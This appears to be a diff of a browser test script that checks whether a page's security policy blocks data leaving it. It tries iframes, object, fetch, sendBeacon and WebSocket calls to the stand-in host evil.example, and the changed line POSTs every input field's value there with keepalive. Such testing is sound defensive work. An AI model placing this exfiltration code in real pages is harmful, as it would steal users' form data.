@@ -44,7 +44,7 @@ document.body.append(Object.assign(document.createElement("iframe"), { src: "htt
 document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>parent.worked.push('frame')</script>" }));
 document.body.append(Object.assign(document.createElement("object"), { data: "https://evil.example/object" }));
 const body = JSON.stringify([...document.querySelectorAll("input")].map((each) => each.value));
-fetch("https://evil.example/take", { method: "POST", mode: "no-cors", body }).then(() => worked.push("fetch"), () => {});
+fetch("https://evil.example/take", { method: "POST", mode: "no-cors", keepalive: true, body }).then(() => worked.push("fetch"), () => {});
 fetch("/settings/").then(() => worked.push("own page"), () => {});
 try { navigator.sendBeacon("https://evil.example/beacon", body); } catch {}
 try { new WebSocket("wss://evil.example/socket"); } catch {}
